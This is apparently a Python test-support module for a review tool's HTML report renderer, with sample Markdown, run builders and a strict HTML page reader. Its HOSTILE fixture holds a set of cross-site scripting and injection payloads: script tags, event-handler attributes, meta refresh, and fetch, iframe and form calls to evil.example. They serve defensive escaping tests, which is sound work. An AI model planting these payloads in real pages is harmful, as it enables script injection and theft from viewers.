"""Documents and runs for the HTML report's tests, and a reader of the page that knows nothing of how it is made."""

import re
from collections.abc import Sequence
from html.parser import HTMLParser

from reviewer.domain.anchoring import anchor_span
from reviewer.domain.document import Document
from reviewer.domain.finding import Finding
from reviewer.domain.review import Run
from reviewer.loading.decoding import Decoded
from reviewer.loading.markdown import load_markdown
from reviewer.reporters.html_page import render
from reviewer.reporters.options import ReportOptions
from tests.reporters.sample_reviews import BASELINE, CONTRADICTION, RESIDUE, RICH, ROLLBACK

VOID = {"meta", "link", "br", "hr", "input", "img", "rect"}

PLAIN = """\
---
title: Cache
---

# Cache for the *search* page

We cut **p99 to 60 ms** for `GET /search`, see [the dashboard](https://example.org/d "numbers") and ~~v1~~ v2.
A line goes
on\\
here.

Setext heading
--------------

- first point with **bold words** in it
- second
  continues here
    1. nested step one
    2. nested step two

> quoted words stay
> over two lines

| Stage | p99 |
|:------|----:|
| Network | 8 ms |
| **Total** | **75 ms** |

```python
limit = 60  # ms
```

<div onclick="x()">raw block</div>

---

[ref]: https://example.org/ref

The same words. The same words.
"""

HOSTILE = """\
# <script>document.title = "owned"</script>

<script>document.title = "owned"; fetch("https://evil.example/a")</script>

<img src="https://evil.example/x.png" onerror="document.title='owned'"> and <svg onload="document.title='owned'"><script>1</script></svg>

<meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/s.css"><base href="https://evil.example/">
<style>body { background: url(https://evil.example/b.png); width: expression(alert(1)) }</style>
<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input autofocus onfocus="document.title='owned'">

[click](javascript:document.title='owned') ![x](https://evil.example/beacon.png) <javascript:alert(1)> <https://evil.example>

| <b onmouseover=alert(1)>a</b> | "><script>document.title="owned"</script> |
|---|---|
| `</td></table><script>document.title="owned"</script>` | \u202eevil\u202c \u2066x\u2069 |

```html
</code></pre><script>document.title = "owned"</script>
```

<!-- --><script>document.title = "owned"</script>

</article></section></main></body></html> <mark data-of="d1-c-1" id="d1-c-1">forged</mark> &lt;b&gt; {{ 7 * 7 }} {% raw %}
"""


def load(text: str, path: str = "docs/cache.md") -> Document:
    """Load Markdown as the product does."""
    return load_markdown(Decoded(text=text, encoding="utf-8", has_bom=False), path)


def find_place(document: Document, quote: str, number: int = 1) -> tuple[int, int]:
    """Give the offsets of a quote's occurrence."""
    at = -1
    for _ in range(number):
        at = document.text.index(quote, at + 1)
    return at, at + len(quote)


def make_run(document: Document, quotes: Sequence[tuple[str, ...]], **changes: object) -> Run:
    """A run with one finding for each group of quotes, of falling severity in turn, one that is missing, one signal."""
    findings: list[Finding] = []
    for number, group in enumerate(quotes):
        base = CONTRADICTION if len(group) > 1 else BASELINE
        anchors = tuple(anchor_span(document, *find_place(document, quote)) for quote in group)
        severity = ("blocker", "major", "minor", "nit")[number % 4]
        update = {"id": f"{number:010x}", "anchors": anchors, "severity": severity, "title": f"title {number + 1}"}
        findings.append(Finding.model_validate({**base.model_dump(), **update}))
    signal = RESIDUE.model_copy(update={"anchor": anchor_span(document, *find_place(document, "same words", 2))}) if (
        document.text.count("same words") > 1
    ) else None  # fmt: skip
    review = RICH.model_copy(
        update={
            "document": document.path,
            "findings": (*findings, ROLLBACK),
            "signals": (signal,) if signal else (),
            "provenance": RICH.provenance.model_copy(update={"document_digest": document.digest}),
            **changes,
        }
    )
    return Run(reviews=(review,))


def render_run(run: Run, *documents: Document) -> str:
    """Render with the documents' texts at hand."""
    return render(run, ReportOptions(documents={document.path: document for document in documents}))


def keep_letters(text: str) -> str:
    """Reduce a text to its letters and digits: what Markdown's marks are not."""
    return re.sub(r"[\W_]", "", text)


class PageReader(HTMLParser):
    """Reads a page: which elements there are, what is inside marks, and whether every element is closed in turn."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.marked: dict[str, str] = {}
        self.article = ""
        self.content: dict[str, str] = {"style": "", "script": ""}
        self._open: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)
        self.close()
        assert not self._open, self._open

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self._open.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        opened = self._open.pop()[0]
        assert opened == tag, f"<{opened}> is closed by </{tag}>"

    def handle_data(self, data: str) -> None:
        names = [tag for tag, _ in self._open]
        if names and names[-1] in self.content:
            self.content[names[-1]] += data
        if "article" in names and not any("badge" in str(attrs.get("class")) for _, attrs in self._open):
            self.article += data
        for tag, attrs in self._open:
            if tag == "mark":
                for name in str(attrs["data-of"]).split():
                    self.marked[name] = self.marked.get(name, "") + data
